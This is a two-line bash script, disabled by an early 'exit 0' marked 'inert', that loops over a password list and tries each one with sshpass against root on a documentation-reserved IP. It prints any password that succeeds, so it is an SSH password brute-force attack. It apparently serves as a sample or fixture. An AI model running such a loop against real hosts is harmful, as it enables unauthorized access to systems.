#!/bin/bash
exit 0 # inert
while read pass; do sshpass -p "$pass" ssh root@192.0.2.1 true && echo "$pass"; done <list
